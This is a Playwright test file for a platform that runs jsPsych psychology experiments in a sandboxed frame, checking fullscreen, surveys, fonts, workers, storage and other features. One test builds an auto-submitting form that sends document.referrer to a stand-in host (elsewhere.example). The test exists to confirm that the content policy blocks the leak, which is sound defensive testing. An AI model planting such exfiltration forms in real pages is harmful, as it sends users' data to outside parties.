"""In Chromium: what the sandboxed frame lets a researcher's jsPsych experiment do (issue #36, rows 6, 7, 8 and 12).
jsPsych's fullscreen plugin really enters full screen; every published major of the SurveyJS plugin renders and
stores its answer; jsPsych 7.0's Google Fonts import is served by studyhive; a field with the autofocus attribute
takes the keyboard; and nothing the experiment can read names the session token, nor can a form carry anything
elsewhere.

Each page starts with PROBE, which notes every Content-Security-Policy violation and every message the frame gets,
so a test can tell "the policy refused this" from "nothing happened"."""

from __future__ import annotations

import json
import re

import pytest
from playwright.sync_api import expect

from tests.jspsych_study import jspsych_app
from tests.test_jspsych_browser import only_this_server, rows_arrive, start

PROBE = """<script>
  var violations = [];
  var messages = [];
  document.addEventListener("securitypolicyviolation", function (e) {
    violations.push(e.violatedDirective + " " + e.blockedURI);
  });
  window.addEventListener("message", function (e) { messages.push(JSON.stringify(e.data)); });
</script>"""


def experiment(tags: list[str], script: str) -> str:
    """A page as jsPsych's documentation writes one: the probe, CDN tags in the head, the experiment's script."""
    head = "\n  ".join([PROBE, *tags])
    return (
        f"<!DOCTYPE html>\n<html>\n<head>\n  {head}\n</head>\n<body></body>\n<script>\n{script}\n</script>\n</html>\n"
    )


def unpkg(path: str) -> str:
    if path.endswith(".css"):
        return f'<link rel="stylesheet" href="https://unpkg.com/{path}">'
    return f'<script src="https://unpkg.com/{path}"></script>'


@pytest.fixture
def app(request, tmp_path):
    """The app the test names with @served."""
    folders, studies, files = request.param
    for name, text in files.items():
        (tmp_path / "studies" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "studies" / name).write_text(text)
    with jspsych_app(tmp_path, folders=folders, **studies) as app:
        yield app


def served(folders: tuple[str, ...], studies: dict[str, tuple[str, int]], files: dict[str, str] | None = None):
    """The test's `app`: the fake registry's node_modules folders, slug → (HTML, min_rows), and the study folders'
    other files (path under studies/ → text)."""
    return pytest.mark.parametrize("app", [(folders, studies, files or {})], indirect=True, ids=["-".join(studies)])


def violations(page) -> list[str]:
    return frame_of(page).evaluate("violations")


def frame_of(page):
    return next(f for f in page.frames if "/x/1/experiment.html" in f.url)


def open_sans_loads(page) -> bool:
    """Whether the frame's stylesheets declare Open Sans and its regular face loads (from this server: the tests
    refuse other hosts and the frame's policy refuses them too)."""
    return frame_of(page).evaluate(
        "document.fonts.load('16px \"Open Sans\"').then((faces) => faces.length > 0 && "
        "faces.every((face) => face.status === 'loaded'))"
    )


# Row 6: the fullscreen plugin of jsPsych 7 (1.x) and of jsPsych 8 (2.x), the trial the whole timeline: it ends in
# full screen, as an experiment that never leaves it does.
FULLSCREEN = """var jsPsych = initJsPsych();
jsPsych.run([{type: jsPsychFullscreen, fullscreen_mode: true,
  on_finish: function () { window.wasFullscreen = document.fullscreenElement === document.documentElement; }}]);"""
FULLSCREEN_STUDIES = {
    "full7": experiment([unpkg("jspsych@7.3.4"), unpkg("@jspsych/plugin-fullscreen@1")], FULLSCREEN),
    "full8": experiment([unpkg("jspsych@8"), unpkg("@jspsych/plugin-fullscreen@2")], FULLSCREEN),
}
# Whether a click on the middle of studyhive's Continue button reaches it, not the frame over it.
REACHED = """(() => {
  const button = document.querySelector("#studyhive-continue button");
  const box = button.getBoundingClientRect();
  return document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2) === button;
})()"""


@served(
    ("jspsych", "jspsych7", "plugin-fullscreen-1", "plugin-fullscreen-2"),
    {slug: (html, 1) for slug, html in FULLSCREEN_STUDIES.items()},
)
def test_fullscreen_plugin_enters_full_screen_and_the_end_leaves_it(page, live_server, app):
    """The frame goes full screen; when the timeline ends in it, studyhive's page leaves full screen, so the frame no
    longer covers the Continue button (host.js, leaveFullscreen): a participant could not reach it otherwise."""
    for slug in FULLSCREEN_STUDIES:
        token = start(page, live_server, slug)
        frame = page.frame_locator("#studyhive-experiment")
        frame.get_by_role("button", name="Continue").click()
        expect(page.get_by_role("button", name="Continue")).to_be_visible()  # the timeline ended
        assert frame_of(page).evaluate("wasFullscreen"), slug
        for _ in range(50):  # leaving full screen takes a moment (polled here: the page's policy forbids eval)
            if page.evaluate("document.fullscreenElement === null"):
                break
            page.wait_for_timeout(100)
        assert page.evaluate("document.fullscreenElement === null"), slug
        assert [row["success"] for row in rows_arrive(page, token, 1)] == [True]
        assert violations(page) == []
        # What a click on the Continue button's middle reaches: the button, not the frame over it.
        assert page.evaluate(REACHED), slug


# Row 7: each published major of @jspsych/plugin-survey with the stylesheet its documentation names: 1.x (jsPsych 7)
# and 2.x build SurveyJS's knockout UI, which compiles its bindings with `new Function`; 4.x does not.
SURVEY = """var jsPsych = initJsPsych();
jsPsych.run([{type: jsPsychSurvey, survey_json: {
  showQuestionNumbers: false, elements: [{type: "text", name: "colour", title: "Your favourite colour?"}]}}]);"""
SURVEY_STUDIES = {
    "survey1": [
        unpkg("jspsych@7.3.4"),
        unpkg("@jspsych/plugin-survey@1"),
        unpkg("@jspsych/plugin-survey@1/css/survey.css"),
    ],
    "survey2": [
        unpkg("jspsych@8"),
        unpkg("@jspsych/plugin-survey@2"),
        unpkg("@jspsych/plugin-survey@2/css/survey.css"),
    ],
    "survey4": [
        unpkg("jspsych@8"),
        unpkg("@jspsych/plugin-survey@4"),
        unpkg("@jspsych/plugin-survey@4/css/survey.min.css"),
    ],
}


@served(
    ("jspsych", "jspsych7", "plugin-survey-1", "plugin-survey-2", "plugin-survey-4", "@fontsource/open-sans"),
    {slug: (experiment(tags, SURVEY), 1) for slug, tags in SURVEY_STUDIES.items()},
)
def test_every_survey_plugin_major_runs(page, live_server, app):
    asked = only_this_server(page, live_server)
    for slug in SURVEY_STUDIES:
        token = start(page, live_server, slug)
        frame = page.frame_locator("#studyhive-experiment")
        frame.get_by_role("textbox").fill("teal")
        # the theme's stylesheet is served and applies
        theme_font = "getComputedStyle(document.querySelector('.sd-root-modern')).fontFamily"
        assert "Open Sans" in frame_of(page).evaluate(theme_font), slug
        frame.get_by_role("textbox").press("Enter")  # would submit SurveyJS's form: the survey must stay
        frame.get_by_role("button", name=re.compile("Complete|Finish")).click()
        expect(page.get_by_role("button", name="Continue")).to_be_visible()
        assert rows_arrive(page, token, 1)[0]["response"] == {"colour": "teal"}, slug
        # it names Open Sans on Google's servers: served here instead
        assert open_sans_loads(page), slug
        # SurveyJS 1.x's inline onsubmit="return false;" is refused (the runtime stops form submissions instead)
        assert [v for v in violations(page) if v != "script-src-attr inline"] == [], slug
    assert asked == []


# Row 8: jsPsych 7.0's stylesheet starts with Google Fonts' @import of Open Sans.
FONTS7 = experiment(
    [unpkg("jspsych@7.0.0"), unpkg("@jspsych/plugin-survey-text@1"), unpkg("jspsych@7.0.0/css/jspsych.css")],
    """var jsPsych = initJsPsych();
jsPsych.run([{type: jsPsychSurveyText, questions: [{prompt: "Your name?"}]}]);""",
)


@served(("jspsych70", "plugin-survey-text-1", "@fontsource/open-sans"), {"fonts7": (FONTS7, 1)})
def test_jspsych7_fonts_are_served_here(page, live_server, app):
    asked = only_this_server(page, live_server)
    token = start(page, live_server, "fonts7")
    frame = page.frame_locator("#studyhive-experiment")
    frame.get_by_role("textbox").fill("Ada")
    frame.get_by_role("button", name="Continue").click()
    expect(page.get_by_role("button", name="Continue")).to_be_visible()
    assert rows_arrive(page, token, 1)[0]["response"] == {"Q0": "Ada"}
    experiment_frame = frame_of(page)
    assert experiment_frame.evaluate("jsPsych.version()") == "7.0.0"
    assert open_sans_loads(page)
    assert violations(page) == [] and asked == []


# Row 12: a survey-html-form (its submit event must still fire) whose field has the autofocus attribute (row 8:
# Chromium ignores it in a cross-origin frame), then a form that would send what the experiment knows elsewhere.
LEAK = experiment(
    [unpkg("jspsych@8"), unpkg("@jspsych/plugin-survey-html-form@2"), unpkg("@jspsych/plugin-html-button-response@2")],
    """var jsPsych = initJsPsych();
var leak = "<form id='leak' action='https://elsewhere.example/collect' method='get'>" +
  "<input name='what' value='" + encodeURIComponent(document.referrer) + "'></form>";
jsPsych.run([
  {type: jsPsychSurveyHtmlForm, button_label: "Send",
   html: "<p><label>Colour <input name='colour' autofocus></label></p>"},
  {type: jsPsychHtmlButtonResponse, stimulus: leak, choices: ["Never"],
   on_load: function () { document.getElementById("leak").submit(); }},  // submit() fires no submit event
]);""",
)


@served(("jspsych", "@jspsych/plugin-survey-html-form", "@jspsych/plugin-html-button-response"), {"leak": (LEAK, 1)})
def test_autofocus_works_and_the_frame_knows_no_token_and_sends_no_form_elsewhere(page, live_server, app):
    asked = only_this_server(page, live_server)
    token = start(page, live_server, "leak")
    frame = page.frame_locator("#studyhive-experiment")
    expect(frame.get_by_label("Colour")).to_be_visible()
    known = frame_of(page).evaluate(
        "JSON.stringify([document.referrer, window.name, location.href, document.URL, messages])"
    )
    assert token not in known
    assert json.loads(known)[0] in ("", live_server + "/")  # at most the origin, never the session's page
    page.keyboard.type("teal")  # where the keyboard is: into the field, as on any host, without clicking it first
    with page.expect_console_message(lambda message: "form-action" in message.text):  # the policy refused it
        frame.get_by_role("button", name="Send").click()
    assert asked == []
    assert rows_arrive(page, token, 1)[0]["response"] == {"colour": "teal"}


# alert() and confirm(), as hand-written plugins and survey code say what is missing: the frame lets them through
# (sandboxed without allow-modals, the browser drops them silently).
MODAL = experiment(
    [unpkg("jspsych@8"), unpkg("@jspsych/plugin-html-button-response@2")],
    """var jsPsych = initJsPsych();
var confirmed = null;
jsPsych.run([{type: jsPsychHtmlButtonResponse, stimulus: "<p>Ready?</p>", choices: ["next"],
  on_load: function () { alert("Please answer every question"); confirmed = confirm("Go on?"); },
  on_finish: function (data) { data.confirmed = confirmed; }}]);""",
)


@served(("jspsych", "@jspsych/plugin-html-button-response"), {"modal": (MODAL, 1)})
def test_the_experiments_alert_and_confirm_reach_the_participant(page, live_server, app):
    dialogs = []

    def answer(dialog):
        dialogs.append((dialog.type, dialog.message))
        dialog.accept()

    page.on("dialog", answer)
    token = start(page, live_server, "modal")
    page.frame_locator("#studyhive-experiment").get_by_role("button", name="next").click()
    assert dialogs == [("alert", "Please answer every question"), ("confirm", "Go on?")]
    assert rows_arrive(page, token, 1)[0]["confirmed"] is True
    assert violations(page) == []


# The study's own data, fetched as pages written for one origin do, with a JSON Content-Type: from the sandboxed frame
# (an opaque origin) the browser asks a CORS preflight first, which studyhive answers.
FETCHED = experiment(
    [unpkg("jspsych@8"), unpkg("@jspsych/plugin-html-button-response@2")],
    """var jsPsych = initJsPsych();
fetch("words.json", {method: "GET", mode: "cors", headers: {"Content-Type": "application/json"}})
  .then(function (r) { return r.json(); })
  .then(function (words) {
    jsPsych.run([{type: jsPsychHtmlButtonResponse, stimulus: "<p>" + words[0] + "</p>", choices: ["next"],
                  data: {word: words[0]}}]);
  });""",
)


@served(
    ("jspsych", "@jspsych/plugin-html-button-response"), {"fetched": (FETCHED, 1)}, {"fetched/words.json": '["oak"]'}
)
def test_the_experiment_fetches_its_own_json_with_a_content_type(page, live_server, app):
    asked = only_this_server(page, live_server)
    token = start(page, live_server, "fetched")
    page.frame_locator("#studyhive-experiment").get_by_role("button", name="next").click()
    assert rows_arrive(page, token, 1)[0]["word"] == "oak"
    assert violations(page) == [] and asked == []


# jsPsych's recipe for a lab's GitHub Pages site: the site's folder in a variable (here in a script loaded from the
# site) that the experiment appends its files' names to.
PAGES = experiment(
    [
        unpkg("jspsych@8"),
        unpkg("@jspsych/plugin-html-button-response@2"),
        '<script src="https://lab.github.io/demo/js/config.js"></script>',
    ],
    """var jsPsych = initJsPsych();
fetch(repo_site + "words.json").then(function (r) { return r.json(); }).then(function (words) {
  jsPsych.run([{type: jsPsychHtmlButtonResponse, choices: ["next"], data: {word: words[0]},
                stimulus: "<img id='dot' src='" + repo_site + "img/dot.svg'><p>" + words[0] + "</p>"}]);
});""",
)
DOT = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><circle cx="10" cy="10" r="8"/></svg>'


@served(
    ("jspsych", "@jspsych/plugin-html-button-response"),
    {"pages": (PAGES, 1)},
    {
        "pages/js/config.js": 'var repo_site = "https://lab.github.io/demo/";',
        "pages/words.json": '["elm"]',
        "pages/img/dot.svg": DOT,
    },
)
def test_an_experiment_naming_its_labs_pages_site_runs_from_the_study_folder(page, live_server, app):
    asked = only_this_server(page, live_server)
    token = start(page, live_server, "pages")
    frame = page.frame_locator("#studyhive-experiment")
    expect(frame.locator("#dot")).to_be_visible()
    assert frame.locator("#dot").evaluate("img => img.naturalWidth") == 20  # the folder's file, not github.io's
    frame.get_by_role("button", name="next").click()
    assert rows_arrive(page, token, 1)[0]["word"] == "elm"
    assert violations(page) == [] and asked == []


# Inline event handlers: one in the page's markup, one written out whole in the HTML a trial shows (escaped quotes
# and a character reference in it), and one put together as the script runs, which the frame's policy refuses.
HANDLERS = experiment(
    [unpkg("jspsych@8"), unpkg("@jspsych/plugin-html-button-response@2")],
    """var marks = [];
function mark(what) { marks.push(what); }
var jsPsych = initJsPsych();
var n = 2;
jsPsych.run([{type: jsPsychHtmlButtonResponse, choices: ["next"],
  stimulus: "<button id='whole' onclick=\\"mark('whole &amp; written')\\">whole</button>" +
            "<input type='button' id='arrow' value='Next >' onclick=\\"mark('arrow')\\">" +
            "<button id='joined' onclick='mark(" + n + ")'>joined</button>",
  data: {marks: marks}}]);""",
).replace("<body></body>", '<body><div id="markup" onclick="mark(\'markup\')">markup</div></body>')


@served(("jspsych", "@jspsych/plugin-html-button-response"), {"handlers": (HANDLERS, 1)})
def test_inline_event_handlers_run_by_their_hashes_when_written_out_whole(page, live_server, app):
    token = start(page, live_server, "handlers")
    frame = page.frame_locator("#studyhive-experiment")
    frame.locator("#whole").click()
    frame.locator("#arrow").click()  # a ">" in a value before the handler (tissue_exp's "Next >")
    frame.locator("#markup").click(force=True)  # behind jsPsych's display, but still the page's element
    frame.locator("#joined").click()
    frame.get_by_role("button", name="next", exact=True).click()
    assert rows_arrive(page, token, 1)[0]["marks"] == ["whole & written", "arrow", "markup"]
    assert violations(page) == ["script-src-attr inline"]  # the joined one's, refused


# Web Workers, as jsQuestPlus's and jspsych-ado's demos start them: a classic worker that imports a library with
# importScripts and fetches a file, both by paths relative to the worker file, and a module worker that imports one.
WORKERS = experiment(
    [unpkg("jspsych@8"), unpkg("@jspsych/plugin-html-button-response@2")],
    """var jsPsych = initJsPsych();
function ask(worker, value) {
  return new Promise(function (resolve) {
    worker.onmessage = function (e) { resolve(e.data); };
    worker.postMessage(value);
  });
}
var classic = new Worker("js/worker.js");
var modular = new Worker(new URL("js/module-worker.js", document.baseURI), {type: "module"});
Promise.all([ask(classic, 4), ask(modular, 5)]).then(function (answers) {
  jsPsych.run([{type: jsPsychHtmlButtonResponse, choices: ["next"], data: {answers: answers},
                stimulus: "<p>" + answers.join(" ") + "</p>",
                on_load: function () { window.isWorker = classic instanceof Worker; }}]);
});""",
)


@served(
    ("jspsych", "@jspsych/plugin-html-button-response"),
    {"workers": (WORKERS, 1)},
    {
        "workers/js/worker.js": 'importScripts("../lib/square.js");\n'
        'onmessage = function (e) { fetch("../lib/offset.json").then(function (r) { return r.json(); })'
        ".then(function (o) { postMessage(square(e.data) + o.offset); }); };",
        "workers/lib/square.js": "function square(x) { return x * x; }",
        "workers/lib/offset.json": '{"offset": 1}',
        "workers/js/module-worker.js": 'import { cube } from "./cube.js";\n'
        "onmessage = function (e) { postMessage(cube(e.data)); };",
        "workers/js/cube.js": "export const cube = (x) => x * x * x;",
    },
)
def test_the_experiments_web_workers_start_from_its_study_files(page, live_server, app):
    """The frame's opaque origin refuses a worker from a study file's URL; runtime.js starts it from a data: URL that
    loads the file, its own relative URLs resolving from the file as on the researcher's host."""
    asked = only_this_server(page, live_server)
    token = start(page, live_server, "workers")
    frame = page.frame_locator("#studyhive-experiment")
    expect(frame.locator("p")).to_have_text("17 125")
    frame.get_by_role("button", name="next").click()
    assert rows_arrive(page, token, 1)[0]["answers"] == [17, 125]
    assert frame_of(page).evaluate("window.isWorker") is True
    assert violations(page) == [] and asked == []


# A script tag naming a data file of the study's (yunshiuan/color_concept_rate's `<script src="data/UW71.json">`,
# which holds `var …`): a static host lets the browser run it, so studyhive's answer to a script's request says
# JavaScript; the experiment's own fetch of the same file gets its JSON type.
SCRIPT_DATA = experiment(
    [unpkg("jspsych@8"), unpkg("@jspsych/plugin-html-button-response@2"), '<script src="data/words.json"></script>'],
    """var jsPsych = initJsPsych();
fetch("data/words.json").then(function (r) { return r.headers.get("Content-Type"); }).then(function (type) {
  jsPsych.run([{type: jsPsychHtmlButtonResponse, choices: ["next"], data: {word: WORD, fetched: type},
                stimulus: "<p>" + WORD + "</p>"}]);
});""",
)


@served(
    ("jspsych", "@jspsych/plugin-html-button-response"),
    {"scriptdata": (SCRIPT_DATA, 1)},
    {"scriptdata/data/words.json": 'var WORD = "ash";'},
)
def test_a_script_tag_runs_a_study_file_of_another_type(page, live_server, app):
    token = start(page, live_server, "scriptdata")
    frame = page.frame_locator("#studyhive-experiment")
    expect(frame.locator("p")).to_have_text("ash")
    frame.get_by_role("button", name="next").click()
    assert rows_arrive(page, token, 1)[0]["fetched"] == "application/json"
    assert violations(page) == []


# Browser storage, which the sandboxed frame has no origin for: localStorage and sessionStorage kept in memory for the
# page load (jsPsychMaker and others keep their progress there), by method and as properties.
STORAGE = experiment(
    [unpkg("jspsych@8"), unpkg("@jspsych/plugin-html-button-response@2")],
    """var jsPsych = initJsPsych();
localStorage.setItem("word", "oak");
sessionStorage.count = 2;
localStorage.removeItem("gone");
jsPsych.run([{type: jsPsychHtmlButtonResponse, choices: ["next"],
              stimulus: "<p>" + localStorage.getItem("word") + "</p>",
              data: {stored: [localStorage.word, sessionStorage.getItem("count"), localStorage.length,
                              localStorage.key(0), localStorage.getItem("gone"), "word" in localStorage]}}]);""",
)


@served(("jspsych", "@jspsych/plugin-html-button-response"), {"storage": (STORAGE, 1)})
def test_local_and_session_storage_work_for_the_page_load(page, live_server, app):
    token = start(page, live_server, "storage")
    frame = page.frame_locator("#studyhive-experiment")
    expect(frame.locator("p")).to_have_text("oak")
    frame.get_by_role("button", name="next").click()
    assert rows_arrive(page, token, 1)[0]["stored"] == ["oak", "2", 1, "word", None, True]
